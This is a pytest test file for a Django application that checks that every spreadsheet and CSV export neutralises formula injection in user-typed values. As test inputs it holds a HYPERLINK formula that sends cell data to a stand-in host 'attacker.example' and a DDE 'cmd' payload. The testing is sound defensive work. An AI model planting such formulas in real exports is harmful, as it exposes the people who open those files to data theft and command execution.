"""Formula injection: a value someone typed (a unit name, an audit reason, a survey answer, an
imported dossier's cell) that starts with "=" must reach a spreadsheet as text, never as a live
formula, in every file the application writes for a spreadsheet program.

Excel files: the cell's type is text (`data_type == "s"` when read back, with the quote prefix)
and its text is unchanged. CSV files: the text gets a leading apostrophe. The last test reads
the package's source and fails on a writer that does not go through the shared helper.
"""

from __future__ import annotations

import csv
import datetime
import io
import re
from decimal import Decimal
from pathlib import Path

import pytest
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from parindex.audit.exports import events_workbook, filtered_events
from parindex.audit.services import audit_record
from parindex.common.spreadsheet import inert, looks_like_formula, workbook_bytes
from parindex.jobs.models import Job, JobState

FORMULA = '=HYPERLINK("http://attacker.example/?d="&A1,"Bấm để xem")'
PACKAGE = Path(__file__).resolve().parents[2] / "parindex"


def cells(data: bytes) -> list:
    workbook = load_workbook(io.BytesIO(data))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def assert_inert_xlsx(data: bytes, text: str = FORMULA) -> None:
    """Every cell holding `text` is a text cell with exactly that text; no formula at all."""
    found = cells(data)
    holding = [cell for cell in found if isinstance(cell.value, str) and text in cell.value]
    assert holding, f"{text!r} is not in the workbook"
    assert all(cell.data_type == "s" for cell in holding)
    assert not [cell.coordinate for cell in found if cell.data_type == "f"]
    exact = [cell for cell in holding if cell.value == text]
    assert all(cell.quotePrefix for cell in exact)


def job_file(response) -> bytes:
    assert response.status_code == 302, response
    job = Job.objects.get(pk=int(response["Location"].rstrip("/").rsplit("/", 1)[1]))
    assert job.state == JobState.DONE, job.error
    return job.result.read()


# --- the helper ----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A3)", "'@SUM(A1:A3)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("-3", "-3"),
        ("+84 912 345 678", "+84 912 345 678"),
        ("-1.234,5", "-1.234,5"),
        ("Xã An Bình", "Xã An Bình"),
        ("", ""),
        (None, None),
        (-3, -3),
        (Decimal("-1.5"), Decimal("-1.5")),
    ],
)
def test_csv_values_that_a_spreadsheet_would_evaluate_get_an_apostrophe(value, expected):
    assert inert(value) == expected


def test_an_excel_cell_written_with_a_formula_text_comes_back_as_the_same_text():
    workbook = Workbook()
    sheet = workbook.active
    sheet.append([FORMULA, "Xã An Bình", 3, "-2+3"])
    sheet["E1"] = "=SUM(1,2)"

    found = {cell.coordinate: cell for cell in cells(workbook_bytes(workbook))}

    assert found["A1"].value == FORMULA
    assert found["A1"].data_type == "s"
    assert found["E1"].value == "=SUM(1,2)"
    assert found["E1"].data_type == "s"
    assert found["B1"].value == "Xã An Bình"
    assert found["C1"].value == 3
    assert found["D1"].value == "-2+3"
    assert found["D1"].data_type == "s"


# --- each export -----------------------------------------------------------------------------------


def test_units_export_writes_a_unit_name_as_text(login, province):
    unit = province["unit_b"]
    unit.name = FORMULA
    unit.save()

    response = login("admin").get(reverse("units:export"))

    assert response.status_code == 200
    assert_inert_xlsx(response.content)


def test_the_audit_export_writes_recorded_values_and_reasons_as_text(province):
    audit_record(
        actor=province["users"]["admin"],
        action="update",
        instance=province["unit_a"],
        changes={"email": ["", FORMULA]},
        reason=FORMULA,
    )

    assert_inert_xlsx(events_workbook(filtered_events()))


def test_an_assessments_history_export_writes_reasons_as_text(login, province):
    assessment = province["assessment_a"]
    audit_record(
        actor=province["users"]["officer_a"],
        action="update",
        instance=assessment,
        reason=FORMULA,
        scope=assessment,
    )

    response = login("appraiser").get(reverse("assessments:history_export", args=[assessment.pk]))

    assert response.status_code == 200
    assert_inert_xlsx(response.content)


def test_the_results_workbook_writes_a_unit_name_as_text(login, province):
    unit = province["unit_b"]
    unit.name = FORMULA
    unit.save()
    period = province["period_2024"]

    data = job_file(login("appraiser").post(reverse("results:export_excel", args=[period.pk])))

    assert_inert_xlsx(data)


def test_the_tasks_export_writes_typed_texts_as_text(province):
    from parindex.tasks.exports import tasks_workbook
    from parindex.tasks.models import Task

    task = Task(
        pk=1,
        title=FORMULA,
        unit=province["unit_a"],
        deadline=datetime.date(2026, 3, 1),
        description=FORMULA,
        document_number="=1+1",
    )

    data = tasks_workbook([task], when=datetime.datetime(2026, 1, 1, 8))

    assert not [cell for cell in cells(data) if cell.data_type == "f"]


def test_the_dossier_drilldown_writes_imported_names_as_text():
    from parindex.dossiers.exports import drilldown_workbook
    from parindex.servicedata import Drilldown, DrillItem

    item = DrillItem(
        kind="late",
        unit_code="X",
        unit_name=FORMULA,
        procedure_code="1.000",
        procedure_name=FORMULA,
        count=3,
        base=10,
        rate=Decimal("70"),
        share_of_total=None,
        points_gain=None,
    )
    result = Drilldown(
        start=datetime.date(2025, 1, 1),
        end=datetime.date(2025, 12, 31),
        late=(item,),
        online=(),
        total_late=3,
        total_offline=0,
        sql=(),
    )

    data = drilldown_workbook(result, when=datetime.datetime(2026, 1, 1, 8), demo=False)

    assert_inert_xlsx(data)


def test_the_rejected_dossier_rows_csv_neutralises_imported_values(tmp_path):
    from parindex.dossiers.exports import rejected_csv
    from parindex.servicedata.store import Batch

    (tmp_path / "rejected.csv").write_text(
        "vị trí,mã hồ sơ,lý do\n"
        f'"/x/upload.csv, dòng 5","{FORMULA.replace(chr(34), chr(34) * 2)}","@cmd: sai ngày"\n',
        encoding="utf-8",
    )
    batch = Batch(
        id="000001-abc",
        kind="dossiers",
        sequence=1,
        file_name="upload.csv",
        file_sha256="0" * 64,
        imported_at="2026-01-01T00:00:00",
        counts={},
        rejected="rejected.csv",
    )

    text = "".join(rejected_csv(tmp_path, batch)).lstrip("\ufeff")
    rows = list(csv.reader(io.StringIO(text)))

    assert rows[1][2] == "'" + FORMULA
    assert rows[1][4] == "'@cmd: sai ngày"


def test_the_survey_csv_export_neutralises_an_anonymous_answer(client, place):
    from parindex.questionnaires.models import Survey
    from parindex.questionnaires.selectors import anonymised_csv

    survey = _survey_with_a_comment(place)
    url = reverse("public_survey:open", args=[survey.pk])
    posted = client.post(url, {**_answers(), "_unit": "B", "nhom": "dn", "y_kien": FORMULA})
    assert posted.status_code == 302
    survey = Survey.objects.get(pk=survey.pk)

    text = anonymised_csv(survey).decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text)))

    assert rows[0]["y_kien"] == "'" + FORMULA
    assert not any(
        looks_like_formula(value) for row in rows for value in row.values() if value is not None
    )


def test_the_invitation_links_csv_neutralises_a_unit_name(place, client):
    from parindex.questionnaires.models import Survey

    survey = _survey_with_a_comment(place)
    unit = place["units"]["A"]
    unit.name = FORMULA
    unit.save()
    client.force_login(
        place["users"]["appraiser"], backend="parindex.accounts.backends.AccountBackend"
    )
    response = client.post(
        reverse("questionnaires:invitations", args=[survey.pk]),
        {
            "unit": unit.pk,
            "respondent_group": "dan",
            "count": 1,
            "expires_on": "31/12/2099",
            "output": "csv",
        },
    )

    assert response.status_code == 200, response.content[:500]
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[1][1] == "'" + FORMULA
    assert Survey.objects.filter(pk=survey.pk).exists()


def test_the_national_workbook_writes_an_imported_name_as_text(tmp_path):
    from parindex.national import national_report, read_results
    from parindex.national.render import render_xlsx

    source = PACKAGE.parent / "tests" / "national" / "fixtures" / "small_results.csv"
    with source.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))
    table = tmp_path / "national.csv"
    with table.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows(
            [[FORMULA if value == "Tỉnh A" else value for value in row] for row in rows]
        )

    report = national_report(read_results([table]), 2022, FORMULA)

    assert_inert_xlsx(render_xlsx(report))


# --- every writer goes through the helper --------------------------------------------------------

# Files written for machines, read back by the application (changing a value would change the
# data), or demo inputs; each with the reason it needs no neutralising.
MACHINE_FILES = {
    "parindex/dossiers/demo.py": "the demo's dossier file, an import input",
    "parindex/dossiers/sources.py": "the dossier store's reference list, read by DuckDB",
    "parindex/servicedata/discovery.py": "the store's reference lists, read back by the importer",
    "parindex/servicedata/feeds.py": "the store's rejected rows, served through dossiers.exports",
    "parindex/servicedata/push.py": "the pushed records as the importer's input file",
    "parindex/servicedata/importer/files.py": "an .xlsx turned into CSV for DuckDB to read",
    "parindex/servicedata/generate_demo.py": "generated demo inputs",
    "parindex/national/generate_demo.py": "the generated national table, an import input",
    "parindex/questionnaires/services/submissions.py": "pushed submissions as the import's input",
    "parindex/questionnaires/demo.py": "the demo's KoboToolbox-style export, an import input",
    "parindex/surveys/xlsform/writing.py": "an XLSForm for ODK/Kobo and pyxform (labels as typed)",
    "parindex/surveys/responses/export.py": "the anonymised table; neutralised by its caller",
    "parindex/surveys/generate_demo.py": "generated demo responses",
    "parindex/demo/national_self.py": "the demo's appraised result and pre-survey export, import inputs",
}
WRITER = re.compile(r"\bWorkbook\(|csv\.writer\(|csv\.DictWriter\(|write_csv\(")


def test_every_spreadsheet_writer_uses_the_shared_helper():
    unprotected = []
    for path in sorted(PACKAGE.rglob("*.py")):
        relative = str(path.relative_to(PACKAGE.parent))
        text = path.read_text(encoding="utf-8")
        if relative in MACHINE_FILES or relative.startswith("parindex/common/spreadsheet"):
            continue
        if WRITER.search(text) and "parindex.common.spreadsheet" not in text:
            unprotected.append(relative)
    assert not unprotected, (
        "these files write spreadsheets without parindex.common.spreadsheet "
        f"(or list them in MACHINE_FILES with a reason): {unprotected}"
    )


# --- a survey with a free-text question ------------------------------------------------------------


def _answers() -> dict[str, str]:
    from tests.questionnaires.conftest import answers

    return answers()


def _survey_with_a_comment(place):
    import secrets

    from parindex.questionnaires.definition import form_to_json
    from parindex.questionnaires.models import Survey
    from parindex.questionnaires.services.questionnaire import respondent_groups_of
    from parindex.surveys.xlsform import Question, SurveyForm
    from tests.questionnaires.conftest import VI, sample_form

    base = sample_form()
    comment = Question("text", "y_kien", {VI: "Ý kiến khác"})
    form = SurveyForm(
        (*base.questions, comment),
        base.choices,
        base.settings,
        survey_columns=base.survey_columns,
        choices_columns=base.choices_columns,
        settings_columns=base.settings_columns,
    )
    return Survey.objects.create(
        period=place["period"],
        framework=place["framework"],
        name="Khảo sát có ý kiến (thử)",
        form_name="phieu.xlsx",
        form_id=form.form_id,
        form_version=form.version,
        definition=form_to_json(form),
        respondent_groups=respondent_groups_of(form),
        state="open",
        open_link_enabled=True,
        open_link_rate_limit=100,
        salt=secrets.token_hex(32),
    )
